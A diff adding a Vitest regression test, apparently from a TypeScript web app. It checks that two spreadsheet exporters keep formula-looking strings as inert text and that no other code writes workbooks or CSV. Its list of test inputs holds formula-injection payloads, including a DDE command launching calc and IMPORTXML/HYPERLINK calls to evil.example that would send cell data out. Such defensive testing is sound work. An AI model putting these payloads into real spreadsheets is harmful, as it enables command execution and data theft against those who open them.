@@ -1,0 +1,43 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { read, utils, type CellObject, type WorkBook } from '@e965/xlsx';
+import { describe, expect, it } from 'vitest';
+import { xlsx } from '../../src/server/archive/xlsx.ts';
+import { writeBook } from '../../src/widgets/subTable/data/book.ts';
+
+/** Texts that a spreadsheet would run, were they not texts. */
+const HOSTILE = ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example","点我")', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '＝1+1', '=IMPORTXML("http://evil.example/?"&A1,"//a")', '|calc', '%0A=1+1', '"=1+1', "'=1+1", '{=1+1}'];
+
+/** What carriage returns become in XML is not what is asked here. */
+const plain = (text: string): string => text.replace(/\r\n?/g, '\n');
+
+function expectTexts(book: WorkBook): void {
+  const sheet = book.Sheets[book.SheetNames[0] as string] ?? {};
+  const cells = Object.entries(sheet).filter(([at]) => /^A\d+$/.test(at)).map(([, cell]) => cell as CellObject);
+  expect(cells.filter(({ f, l }) => f !== undefined || l !== undefined)).toEqual([]);
+  expect(cells.map(({ t }) => t).filter((type) => type !== 's')).toEqual([]);
+  expect(utils.sheet_to_json<string[]>(sheet, { header: 1, blankrows: true }).slice(1).map(([text]) => plain(text ?? ''))).toEqual(HOSTILE.map(plain));
+}
+
+describe('a text that looks like a formula', () => {
+  it('leaves the server as the text of its cell', async () => {
+    const parts: Buffer[] = [];
+    for await (const part of xlsx('=1+1', [{ title: '内容' }], HOSTILE.map((text) => [text]))) parts.push(part);
+    expectTexts(read(Buffer.concat(parts), { cellFormula: true }));
+  });
+
+  it('leaves the page as the text of its cell', async () => {
+    const blob = await writeBook([{ name: '表', rows: [['内容'], ...HOSTILE.map((text) => [text])], widths: [20] }]);
+    expectTexts(read(new Uint8Array(await blob.arrayBuffer()), { cellFormula: true }));
+  });
+});
+
+const sources = (folder: string): string[] => readdirSync(folder, { withFileTypes: true }).flatMap((entry) => (entry.isDirectory() ? sources(join(folder, entry.name)) : /\.tsx?$/.test(entry.name) ? [join(folder, entry.name)] : []));
+
+it('every table that is made is made by one of the two: nothing else writes a workbook, and nothing writes CSV', () => {
+  const makers = sources('src').filter((path) => {
+    const text = readFileSync(path, 'utf8');
+    return /book_append_sheet|spreadsheetml\.sheet\.main/.test(text) || (/text\/csv|\.csv['"`]/.test(text) && !path.endsWith(join('files', 'types.ts')));
+  });
+  expect(makers.map((path) => path.replaceAll('\\', '/')).toSorted()).toEqual(['src/server/archive/xlsx.ts', 'src/widgets/subTable/data/book.ts']);
+});
